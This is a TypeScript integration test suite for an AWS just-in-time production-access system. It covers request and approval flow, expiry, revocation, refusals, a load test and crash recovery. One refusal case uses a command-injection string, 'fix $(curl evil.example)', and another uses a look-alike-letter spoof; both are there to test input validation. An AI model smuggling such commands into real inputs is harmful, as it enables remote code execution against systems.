import { DynamoDBClient, QueryCommand } from '@aws-sdk/client-dynamodb';
import { AddUserToGroupCommand, CreateUserCommand } from '@aws-sdk/client-iam';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { GetScheduleCommand, ListSchedulesCommand, SchedulerClient } from '@aws-sdk/client-scheduler';
import { recordTableName, scheduleGroupName } from '../../components/production-access/access-names';
import type { AccessSettings } from '../../components/production-access/access-settings';
import { personAlias } from '../../components/production-access/person-alias';
import { AccessDesk, type ShownGrant } from '../../operations/production-access/access-desk';
import { AccessKeeper } from '../../operations/production-access/access-keeper';
import { awsPorts } from '../../operations/production-access/aws/aws-ports';
import type { Ports } from '../../operations/production-access/ports';
import { buildAccount, cutPolicy, iam, place, settings, windowOf } from './account';

const group = 'system-operator';
const request = { action: 'request', group, minutes: 1, reason: 'Restart the ledger', ticket: 'OPS-1' };
const lambda = new LambdaClient({});
const ports = awsPorts(settings, place, () => undefined);

interface Reply {
  readonly refused?: string;
  readonly message?: string;
  readonly grants?: readonly ShownGrant[];
}

/** Calls the function in the double as the CLI does. */
async function call(person: string, input: object): Promise<Reply> {
  const { Payload, FunctionError } = await lambda.send(
    new InvokeCommand({
      FunctionName: 'production-access',
      Qualifier: personAlias(person),
      Payload: JSON.stringify(input),
    }),
  );
  const text = Buffer.from(Payload ?? []).toString('utf8');
  if (FunctionError !== undefined) throw new Error(`${FunctionError}: ${text}`);
  return JSON.parse(text) as Reply;
}

function grantIn(reply: Reply): ShownGrant {
  const [grant] = reply.grants ?? [];
  if (!grant) throw new Error(`no grant: ${JSON.stringify(reply)}`);
  return grant;
}

async function until(condition: () => Promise<boolean>, seconds: number): Promise<void> {
  const end = Date.now() + seconds * 1000;
  while (!(await condition())) {
    if (Date.now() > end) throw new Error(`not within ${seconds} seconds`);
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
}

beforeAll(buildAccount);

it('request, approve, member, expires, gone', async () => {
  const { id } = grantIn(await call('ada.lovelace', request));
  expect(await ports.memberships.members(group)).toEqual([]);
  expect(await call('ada.lovelace', { action: 'approve', id })).toMatchObject({ refused: 'not-an-approver' });
  const open = grantIn(await call('grace.hopper', { action: 'approve', id }));
  expect(open.status).toBe('open');
  expect(await ports.memberships.members(group)).toEqual(['ada.lovelace']);
  const end = Date.parse(open.expiresAt ?? '');
  expect(await ports.memberships.expiry('ada.lovelace', group)).toBe(end);
  expect(await windowOf(group)).toContain('"aws:username":"ada.lovelace"');
  const schedule = await new SchedulerClient({}).send(
    new GetScheduleCommand({ Name: `expire-${id}`, GroupName: scheduleGroupName }),
  );
  expect(schedule.ActionAfterCompletion).toBe('DELETE');
  expect(await call('edsger.dijkstra', { action: 'approve', id })).toMatchObject({ refused: 'not-pending' });

  await until(async () => (await ports.memberships.members(group)).length === 0, 100);
  expect(Date.now()).toBeGreaterThanOrEqual(end);
  expect(Date.now()).toBeLessThan(end + 300_000);
  await until(async () => (await ports.records.find(id))?.closedAt !== undefined, 20);
  expect(await windowOf(group)).toContain('"Sid":"Closed"');
  expect(await cutPolicy()).toContain('"aws:userid":"*:ada.lovelace"');
  expect(await ports.memberships.expiry('ada.lovelace', group)).toBeUndefined();
  await until(
    async () =>
      ((await new SchedulerClient({}).send(new ListSchedulesCommand({ GroupName: scheduleGroupName }))).Schedules ?? [])
        .length === 0,
    20,
  );
});

it('the record has every step, in order, and takes no second event of a number', async () => {
  const client = new DynamoDBClient({});
  const today = new Date().toISOString().slice(0, 10).replaceAll('-', '');
  const { Items = [] } = await client.send(
    new QueryCommand({
      TableName: recordTableName,
      KeyConditionExpression: '#day = :day',
      ExpressionAttributeNames: { '#day': 'day' },
      ExpressionAttributeValues: { ':day': { S: today } },
    }),
  );
  expect(Items.map((item) => `${item['by']?.S} ${item['type']?.S}`)).toEqual([
    'ada.lovelace requested',
    'grace.hopper approved',
    'production-access granted',
    'production-access closed',
  ]);
  const id = Items[0]?.['id']?.S ?? '';
  const again = { type: 'revoked', at: 1, by: 'mallory', source: 'slack', reason: 'overwritten' } as const;
  expect(await ports.records.append(id, 1, again)).toBe(false);
});

it.each([
  ['nobody by that alias', undefined, request, 'unknown-person'],
  ['an approver without production access asks', 'katherine.johnson', request, 'not-a-production-person'],
  ['too long', 'ada.lovelace', { ...request, minutes: 241 }, 'duration'],
  ['shell in the reason', 'ada.lovelace', { ...request, reason: 'fix $(curl evil.example)' }, 'invalid'],
  ['look-alike letters', 'ada.lovelace', { ...request, reason: 'Rest\u0430rt the ledger' }, 'invalid'],
  ['a request nobody made', 'grace.hopper', { action: 'approve', id: '20261122-aaaaaaaaaa' }, 'unknown-request'],
])('is refused: %s', async (_, person, input, refused) => {
  if (person === undefined) {
    const { Payload } = await lambda.send(
      new InvokeCommand({ FunctionName: 'production-access', Payload: JSON.stringify(input) }),
    );
    expect(JSON.parse(Buffer.from(Payload ?? []).toString('utf8'))).toMatchObject({ refused });
    return;
  }
  expect(await call(person, input)).toMatchObject({ refused });
});

it('own approval is refused, revocation works at once', async () => {
  const { id } = grantIn(await call('grace.hopper', { ...request, minutes: 30 }));
  expect(await call('grace.hopper', { action: 'approve', id })).toMatchObject({ refused: 'own-request' });
  expect(grantIn(await call('katherine.johnson', { action: 'approve', id })).status).toBe('open');
  const closed = await call('grace.hopper', { action: 'revoke', id, reason: 'The work is done' });
  expect(grantIn(closed).status).toBe('closed');
  expect(await ports.memberships.members(group)).toEqual([]);
});

it('the sweep in the double removes a member nobody asked for', async () => {
  await iam.send(new AddUserToGroupCommand({ GroupName: group, UserName: 'edsger.dijkstra' }));
  await lambda.send(new InvokeCommand({ FunctionName: 'production-access-keeper', Payload: '{"sweep":true}' }));
  expect(await ports.memberships.members(group)).toEqual([]);
});

/** The same people many times over, so that each has a request of their own. */
const crowd = Array.from({ length: 100 }, (_, index) => `person-${index}`);
const crowded: AccessSettings = {
  ...settings,
  limits: { ...settings.limits, openGrantsPerGroup: 12 },
  people: [
    ...settings.people,
    ...crowd.map((name) => ({ name, alias: personAlias(name), production: true, approver: false, groups: [group] })),
  ],
};

it('hundred requests at once: every one is recorded, twelve are opened, all end', async () => {
  for (const name of crowd) await iam.send(new CreateUserCommand({ UserName: name }));
  const desk = new AccessDesk(crowded, ports);
  const asked = await Promise.all(
    crowd.map((name) =>
      desk.carryOut(
        { action: 'request', group, duration: 1800, reason: 'Load test of it', ticket: 'OPS-2' },
        name,
        'slack',
      ),
    ),
  );
  const ids = asked.map((reply) => grantIn(reply).id);
  expect(new Set(ids).size).toBe(100);
  // The deciding function runs at most ten at a time.
  for (let start = 0; start < 100; start += 10) {
    await Promise.all(
      ids.slice(start, start + 10).map((id) => desk.carryOut({ action: 'approve', id }, 'grace.hopper', 'slack')),
    );
  }
  const members = await ports.memberships.members(group);
  const window = await windowOf(group);
  // Approvals at the same moment may all pass the limit; the window never lets more in than it has room for.
  expect((window.match(/DateGreaterThanEquals/g) ?? []).length).toBeLessThanOrEqual(13);
  expect(window.length).toBeLessThanOrEqual(6144);
  expect(members.length).toBeGreaterThanOrEqual(12);
  expect(members.length).toBeLessThan(12 + 10);
  const later: Ports = { ...ports, clock: () => Date.now() + 1_800_000 };
  await new AccessKeeper(crowded, later).sweep();
  expect(await ports.memberships.members(group)).toEqual([]);
  expect(await windowOf(group)).toContain('"Sid":"Closed"');
});

/** Every effect of the ports counts; the process "dies" right after the given one. */
function crashing(after: number, clock: () => number): Ports {
  let effects = 0;
  const reads = new Set(['find', 'recent', 'members', 'expiry', 'clock', 'randomId']);
  const dying = <Port extends object>(port: Port): Port =>
    new Proxy(port, {
      get: (target, property, receiver) => {
        const member: unknown = Reflect.get(target, property, receiver);
        if (typeof member !== 'function') return member;
        return async (...args: readonly unknown[]): Promise<unknown> => {
          if (effects >= after) throw new Error('crash');
          const result: unknown = await member.apply(target, args);
          if (!reads.has(String(property)) && ++effects >= after) throw new Error('crash');
          return result;
        };
      },
    });
  return {
    ...ports,
    clock,
    records: dying(ports.records),
    schedules: dying(ports.schedules),
    memberships: dying(ports.memberships),
    windows: dying(ports.windows),
    sessions: dying(ports.sessions),
    announcements: dying(ports.announcements),
  };
}

it.each(Array.from({ length: 18 }, (_, index) => index + 1))(
  'a crash after effect %d of request, approval and expiry leaves nobody inside after the next sweep',
  async (step) => {
    const name = `person-${step}`;
    const base = Date.now() + step * 24 * 3600_000 * 4;
    const at = (minutes: number): Ports => ({ ...ports, clock: () => base + minutes * 60_000 });
    const dying = crashing(step, () => base);
    const desk = new AccessDesk(crowded, dying);
    const crashed = await desk
      .carryOut(
        { action: 'request', group, duration: 1800, reason: 'Crash test of it', ticket: 'OPS-3' },
        name,
        'slack',
      )
      .then((reply) => desk.carryOut({ action: 'approve', id: grantIn(reply).id }, 'grace.hopper', 'slack'))
      .then((reply) => new AccessKeeper(crowded, { ...dying, clock: () => base + 1_800_000 }).expire(grantIn(reply).id))
      .then(
        () => false,
        () => true,
      );
    expect({ step, crashed }).toEqual({ step, crashed: step <= 17 });
    await new AccessKeeper(crowded, at(5)).sweep();
    await new AccessKeeper(crowded, at(35)).sweep();
    expect(await ports.memberships.members(group)).toEqual([]);
    expect(await windowOf(group)).toContain('"Sid":"Closed"');
    expect(await ports.memberships.expiry(name, group)).toBeUndefined();
  },
);
